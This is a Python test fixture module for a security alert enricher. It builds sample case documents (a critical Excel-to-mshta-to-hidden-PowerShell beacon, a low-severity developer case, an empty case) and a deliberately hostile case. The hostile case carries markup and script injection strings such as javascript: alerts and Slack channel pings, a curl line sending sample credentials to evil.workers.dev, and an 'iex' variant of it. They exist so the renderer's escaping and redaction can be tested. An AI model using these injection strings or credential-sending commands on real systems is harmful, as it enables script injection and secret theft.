"""Case documents to render: the two of the example bodies, one nearly empty, one written by an attacker."""

from __future__ import annotations

import copy
from datetime import datetime, timedelta
from typing import Any, cast

from enricher.core.document import CaseDocument, News
from enricher.ports import Delivery, Ticket

CRITICAL_KEY = "enricher-2412d6c5edbed00f"
LOW_KEY = "enricher-f4c3fb6beeb87ca5"


def step(name: str, rule: str, evidence: str, points: float, before: float, *, taken: bool = True) -> dict[str, Any]:
    after = before + points if taken else before
    return {"step": name, "rule": rule, "evidence": evidence, "points": points, "from": before, "to": after, "taken": taken}


def ancestor(name: str, command_line: str, source: str = "observed") -> dict[str, Any]:
    return {
        "image": f"C:\\Program Files\\{name}",
        "name": name,
        "command_line": command_line,
        "guid": None,
        "pid": None,
        "user": None,
        "source": source,
    }


MISSING_PARENT = {
    **dict.fromkeys(("image", "name", "command_line", "pid", "user")),
    "guid": "7C1E2B40-11AA-65F0-0401-00000000A100",
    "source": "missing",
}


def every(seconds: float, count: int, first: str) -> list[str]:
    """`count` times, `seconds` apart."""
    start = datetime.fromisoformat(first)
    return [(start + timedelta(seconds=seconds * n)).isoformat() for n in range(count)]


def lookup(
    source: str, status: str, detail: dict[str, Any] | None = None, reason: str | None = None, age_s: int = 0
) -> dict[str, Any]:
    return {
        "source": source,
        "about": "104.21.48.117",
        "status": status,
        "detail": detail or {},
        "age_s": age_s,
        "reason": reason,
    }


CRITICAL = cast(
    "CaseDocument",
    {
        "key": CRITICAL_KEY,
        "title": "powershell.exe under Excel beacons to example-lab.workers.dev from ws-fin-0142",
        "summary": "Excel started mshta, mshta started a hidden PowerShell, and that PowerShell has called a Cloudflare Workers "
        "tenant, new in this estate, every 30 seconds since 01:52 UTC.",
        "detection": "T1583.007",
        "technique": {
            "id": "T1583.007",
            "name": "Acquire Infrastructure: Serverless",
            "tactic": "resource-development",
            "url": "https://attack.mitre.org/techniques/T1583/007/",
        },
        "host": "ws-fin-0142.corp.example",
        "user": "CORP\\m.alvarez",
        "rows": [0, 1, 2],
        "severity": "critical",
        "score": 98,
        "raw_severity": "critical",
        "raw_score": 98,
        "verdict": "malicious",
        "confidence": 0.9,
        "disposition": "open",
        "platform": {
            "id": "cf-workers",
            "name": "Cloudflare Workers",
            "provider": "Cloudflare",
            "category": "edge-worker",
            "family": "cloudflare-workers",
            "seed_pattern": "S1",
        },
        "hostname": "beacon-7f.example-lab.workers.dev",
        "hostname_source": "dns_same_process",
        "hostname_factor": 1.0,
        "candidates": [],
        "tenant": "example-lab.workers.dev",
        "destination": {
            "ip": "104.21.48.117",
            "port": 443,
            "ptr": None,
            "asn": 13335,
            "holder": "Cloudflare",
            "prefix": "104.21.48.0/20",
            "country": "US",
            "consistent": True,
            "consistency": "104.21.48.117 is in a range that Cloudflare publishes",
            "origin": "cymru",
        },
        "process": {
            "image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "name": "powershell.exe",
            "class": "shell",
            "guid": "7C1E2B40-96D1-65F0-3B12-00000000A100",
            "pid": 7316,
            "command_line": "powershell.exe -WindowStyle Hidden -Command -",
            "decoded": None,
            "original_file_name": "PowerShell.EXE",
            "company": "Microsoft Corporation",
            "hashes": {},
            "identity": [],
            "is_suspicious": True,
            "is_browser": False,
        },
        "lineage": [
            ancestor("mshta.exe", "mshta.exe C:\\Users\\m.alvarez\\AppData\\Local\\Temp\\inv8841.hta"),
            ancestor(
                "EXCEL.EXE",
                '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\m.alvarez\\Downloads\\invoice-8841.xlsm"',
            ),
        ],
        "enrichments": [
            lookup("asn", "ok", {"asns": [13335], "origin": "cymru"}, age_s=10_900),
            lookup("ptr", "negative", reason="no name"),
            lookup("rdap", "timeout", reason="no answer in 5 s"),
        ],
        "beacon": {
            "class": "regular",
            "period_s": 30.1,
            "score": 0.93,
            "sightings": 24,
            "reason": None,
            "beats": 24,
            "jitter": 0.042,
            "window": "own",
            "other": None,
            "resolution_s": 0.001,
            "dur": 0.01,
            "hist": 0.0,
        },
        "dns_anomalies": [],
        "first_seen_estate": "2026-11-24T01:52:07Z",
        "prevalence": 1,
        "shared_hosts": [],
        "history_since": "2026-09-30T11:20:00.000Z",
        "contacts": every(30.1, 24, "2026-11-24T01:52:07.412Z"),
        "estate": {
            "role": "workstation",
            "groups": ["finance"],
            "owner": "it-workplace",
            "maintenance": False,
            "service_account": False,
        },
        "ledger": [
            step(
                "platform",
                "platform.score",
                "Cloudflare Workers, weight 5 × 6, name from dns_same_process (factor 1.0)",
                30,
                0,
            ),
            step("process", "process.shell", "powershell.exe, class shell", 15, 30),
            step("lineage", "lineage.office_script", "EXCEL.EXE → mshta.exe", 30, 45),
            step(
                "lineage",
                "lineage.script_shell",
                "mshta.exe → powershell.exe; only the largest counts",
                25,
                75,
                taken=False,
            ),
            step("command_line", "command.hidden", "-WindowStyle Hidden", 5, 75),
            step("behaviour", "behaviour.regular", "class regular, 24 sightings, median gap 30.1 s", 10, 80),
            step("context", "context.new", "tenant not seen in the estate in 30 days", 8, 90),
            step("context", "context.server", "host is a workstation", 8, 98, taken=False),
        ],
        "ledger_digest": "sha256:683517bfce0c4069d610591a2f6d0b4186c585a1b356b1c3277a5ac6a6c16bf9",
        "exceptions": [],
        "drift": [],
        "missing": [
            "what mshta passed to PowerShell on its standard input: no script block event (4104) in the alert",
            "rdap of 104.21.48.117: no answer in 5 s",
        ],
        "next_steps": [
            "Isolate ws-fin-0142 and keep its memory",
            "Take invoice-8841.xlsm and inv8841.hta; find who else received the mail",
            "Look for other hosts that ask for example-lab.workers.dev",
            "Block the tenant, not the platform, at the resolver and the proxy",
            "Reset the sessions and the password of m.alvarez",
        ],
        "tickets": [],
        "first_seen": "2026-11-24T01:52:07.412Z",
        "last_seen": "2026-11-24T02:03:41.090Z",
        "count": 24,
        "findings": [],
        "links": {"sumo_alert": "https://service.us2.sumologic.com/ui/#/alert/0000000001A2B3C4"},
        "evidence": [],
        "insight": None,
    },
)

LOW = cast(
    "CaseDocument",
    {
        **copy.deepcopy(CRITICAL),
        "key": LOW_KEY,
        "title": "python.exe (SAM) calls an API Gateway name from wk-dev-0231",
        "summary": "Shadow rule TUN-0031 matched and would have capped the case at informational; severity is unchanged.",
        "host": "wk-dev-0231.corp.example",
        "user": "CORP\\k.ito",
        "severity": "low",
        "score": 28,
        "raw_severity": "low",
        "raw_score": 28,
        "verdict": "unknown",
        "confidence": 0.6,
        "platform": {
            "id": "aws-apigw",
            "name": "Amazon API Gateway",
            "provider": "Amazon",
            "category": "api-gateway",
            "family": "aws-api-gateway",
            "seed_pattern": None,
        },
        "hostname": "z9y8x7w6v5.execute-api.us-east-1.amazonaws.com",
        "tenant": "z9y8x7w6v5.execute-api.us-east-1.amazonaws.com",
        "destination": {
            "ip": "18.211.59.107",
            "port": 443,
            "ptr": None,
            "asn": 14618,
            "holder": "Amazon",
            "prefix": None,
            "country": "US",
            "consistent": True,
        },
        "process": {
            "image": "C:\\Program Files\\Amazon\\AWSSAMCLI\\runtime\\python.exe",
            "name": "python.exe",
            "class": "runtime",
            "guid": None,
            "pid": 11840,
            "command_line": '"C:\\Program Files\\Amazon\\AWSSAMCLI\\runtime\\python.exe" -m samcli sync --watch --stack-name orders-dev',
            "decoded": None,
            "original_file_name": None,
            "company": None,
            "hashes": {},
            "identity": [],
            "is_suspicious": False,
            "is_browser": False,
        },
        "lineage": [
            ancestor("cmd.exe", "cmd.exe /c sam sync"),
            ancestor("cmd.exe", "cmd.exe", "history"),
            ancestor("explorer.exe", "explorer.exe", "payload"),
            MISSING_PARENT,
        ],
        "enrichments": [lookup("asn", "ok", {"asns": [14618]})],
        "beacon": {"class": "insufficient", "period_s": None, "score": None, "sightings": 3, "reason": "4 are needed"},
        "first_seen_estate": "2026-10-14",
        "prevalence": 12,
        "shared_hosts": ["wk-dev-0007.corp.example", "wk-dev-0110.corp.example"],
        "contacts": every(110.876, 3, "2026-11-24T09:10:22.118Z"),
        "estate": {
            "role": "developer",
            "groups": ["developers", "linux"],
            "owner": None,
            "maintenance": True,
            "service_account": None,
        },
        "ledger": [
            step(
                "platform",
                "platform.score",
                "Amazon API Gateway, weight 3 × 6, name from dns_same_process (factor 1.0)",
                18,
                0,
            ),
            step("process", "process.runtime", "python.exe, class runtime", 10, 18),
            step("behaviour", "behaviour.regular", "class insufficient: 3 sightings, 4 are needed", 10, 28, taken=False),
        ],
        "exceptions": [
            {
                "rule": "TUN-0031",
                "effect": "cap",
                "mode": "shadow",
                "reason": "API Gateway calls of SAM on developer machines",
                "owner": "dev-platform",
                "expires": "2027-02-22",
            }
        ],
        "missing": [
            "rhythm: 4 contacts are needed",
            "fourth ancestor: only its GUID is known; Sumo Logic is being asked for it",
        ],
        "next_steps": ["None needed while the rule is in shadow; its owner compares what it would have changed"],
        "first_seen": "2026-11-24T09:10:22.118Z",
        "last_seen": "2026-11-24T09:14:03.870Z",
        "count": 3,
    },
)

ADDED_LATER = {"contacts", "estate", "history_since"}
"""Keys that cases stored by an earlier version lack."""

EMPTY = cast(
    "CaseDocument",
    {
        **{name: value for name, value in copy.deepcopy(dict(CRITICAL)).items() if name not in ADDED_LATER},
        "title": "",
        "summary": "",
        "host": "",
        "user": None,
        "severity": "informational",
        "score": 0,
        "raw_severity": "informational",
        "raw_score": 0,
        "verdict": "unknown",
        "confidence": 0.0,
        "platform": {"id": "", "name": "", "provider": "", "category": "", "family": "", "seed_pattern": None},
        "hostname": None,
        "hostname_source": None,
        "hostname_factor": None,
        "tenant": None,
        "destination": dict.fromkeys(("ip", "port", "ptr", "asn", "holder", "prefix", "country", "consistent")),
        "process": {
            **dict.fromkeys(
                ("image", "name", "guid", "pid", "command_line", "decoded", "original_file_name", "company", "identity")
            ),
            "class": "other",
            "hashes": {},
            "is_suspicious": False,
            "is_browser": False,
        },
        "lineage": [],
        "enrichments": [],
        "beacon": None,
        "first_seen_estate": None,
        "prevalence": None,
        "ledger": [],
        "ledger_digest": "",
        "missing": ["everything: the row had a name and nothing else"],
        "next_steps": [],
        "first_seen": None,
        "last_seen": None,
        "count": 1,
        "links": {},
    },
)

MARKUP = (
    "<!channel> <!here> <@U1> <https://evil.example|Sumo> *b* _i_ `c` {code}x{code} [code]<b>x</b>[/code] "
    "<script>alert(1)</script> [x](javascript:alert(1)) h1. !http://evil.com/x.png! & &amp; \u202egpj.exe\u200b\u200d \x00\x1b[31m \ud800 😀"
)
SECRETS = (
    "curl -u svc:hunter2hunter2 https://bob:s3cr3tpw@evil.workers.dev/?sig=AAAABBBB --password CorrectHorse "
    '-H "Authorization: Bearer abcdefghijklmnop" AKIAABCDEFGHIJKLMNOP xoxb-1234567890-abcdef ghp_abcdefghijklmnop '
    "password=Winter2026! eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.c2lnbmF0dXJl ConvertTo-SecureString 'Pa$$w0rd'"
)
SECRET_WORDS = (
    "hunter2",
    "s3cr3tpw",
    "AAAABBBB",
    "CorrectHorse",
    "abcdefghijklmnop",
    "ABCDEFGHIJKLMNOP",
    "1234567890-abcdef",
    "Winter2026",
    "c2lnbmF0dXJl",
    "Pa$$w0rd",
)


def _poison(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: _poison(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_poison(item) for item in value] * 3
    return f"{MARKUP} {value}" if isinstance(value, str) else value


def hostile() -> CaseDocument:
    """Every text that an attacker can write has markup in it, a command line is 1 MB long, and there are secrets."""
    poisoned = _poison(copy.deepcopy(dict(CRITICAL)))
    ours = ("key", "detection", "severity", "raw_severity", "verdict", "first_seen", "ledger_digest")
    document = {**poisoned, **{name: CRITICAL[name] for name in ours}}  # type: ignore[literal-required]  # names of a TypedDict in a loop
    document["process"]["command_line"] = SECRETS + " " + MARKUP * 5000 + "A" * 400_000
    document["process"]["decoded"] = [f"iex {SECRETS}"]
    document["lineage"][0]["command_line"] = SECRETS
    document["links"] = {"sumo_alert": "javascript:alert(document.domain)"}
    document["hostname"] = "evil<!channel>.workers.dev"
    return cast("CaseDocument", document)


OPENED: News = {"seq": 1, "kind": "opened", "at": "2026-11-24T01:55:00Z", "text": "Opened", "lines": []}
RECOVERY: News = {
    "seq": 2,
    "kind": "recovery",
    "at": "2026-11-24T02:32:30Z",
    "text": "Recovered in Sumo Logic at 2026-11-24T02:32:30Z (ResolvedCritical).",
    "lines": [
        "Last contact with example-lab.workers.dev at 2026-11-24T02:09:47Z",
        "RDAP answered late: abuse@cloudflare.com",
    ],
}
RAISED: News = {
    "seq": 3,
    "kind": "severity",
    "at": "2026-11-24T02:40:00Z",
    "text": "Severity rose from high to critical.",
    "lines": [],
}
TICKET: News = {"seq": 4, "kind": "ticket", "at": "2026-11-24T02:41:00Z", "text": "Jira SEC-12", "lines": []}


def delivery(document: CaseDocument = CRITICAL, **changes: Any) -> Delivery:
    values: dict[str, Any] = {
        "delivery_id": "d-1",
        "destination": "any",
        "case": document,
        "news": (OPENED,),
        "ticket": None,
        "sent_seq": 0,
        "attempts": 1,
        "in_doubt": False,
        "doubt_age_s": 0.0,
        "fence": 1,
        "tickets": {},
    }
    return Delivery(**{**values, **changes})


ELSEWHERE = {
    "jira": Ticket("SEC-12", "SEC-12", "https://acme.atlassian.net/browse/SEC-12"),
    "servicenow": Ticket("02a8", "INC0010042", "javascript:alert(1)"),
}
